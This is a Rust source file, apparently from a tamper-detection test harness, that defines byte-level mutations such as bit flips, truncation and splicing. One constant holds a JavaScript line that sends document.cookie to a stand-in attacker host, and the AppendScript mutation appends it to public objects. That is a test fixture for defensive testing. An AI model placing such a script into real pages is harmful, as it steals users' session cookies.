//! Byte-level message mutations for the tamper adversary. Every mutation
//! of a non-empty input yields different bytes.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::Serialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum MutationKind {
    BitFlip,
    ByteSet,
    Truncate,
    Extend,
    Splice,
    /// Appends a fixed script statement; used on public objects.
    AppendScript,
}

pub const RANDOM_KINDS: [MutationKind; 5] = [
    MutationKind::BitFlip,
    MutationKind::ByteSet,
    MutationKind::Truncate,
    MutationKind::Extend,
    MutationKind::Splice,
];

pub const APPENDED_SCRIPT: &[u8] = b"\n;fetch('https://evil.example/c?'+document.cookie);\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Mutation {
    pub kind: MutationKind,
    pub seed: u64,
}

impl Mutation {
    pub fn new(kind: MutationKind, seed: u64) -> Self {
        Mutation { kind, seed }
    }

    pub fn apply(&self, input: &[u8]) -> Vec<u8> {
        let mut rng = ChaCha20Rng::seed_from_u64(self.seed);
        let mut out = input.to_vec();
        if input.is_empty() {
            out.push(rng.gen());
            return out;
        }
        match self.kind {
            MutationKind::BitFlip => {
                let i = rng.gen_range(0..out.len());
                out[i] ^= 1 << rng.gen_range(0..8);
            }
            MutationKind::ByteSet => {
                let i = rng.gen_range(0..out.len());
                out[i] ^= rng.gen_range(1..=255u8);
            }
            MutationKind::Truncate => {
                out.truncate(rng.gen_range(0..input.len()));
            }
            MutationKind::Extend => {
                let n = rng.gen_range(1..=16);
                out.extend((0..n).map(|_| rng.gen::<u8>()));
            }
            MutationKind::Splice => {
                let a = rng.gen_range(0..out.len());
                let b = rng.gen_range(a + 1..=out.len());
                let at = rng.gen_range(0..=out.len());
                let piece = out[a..b].to_vec();
                out.splice(at..at, piece);
            }
            MutationKind::AppendScript => out.extend_from_slice(APPENDED_SCRIPT),
        }
        out
    }
}
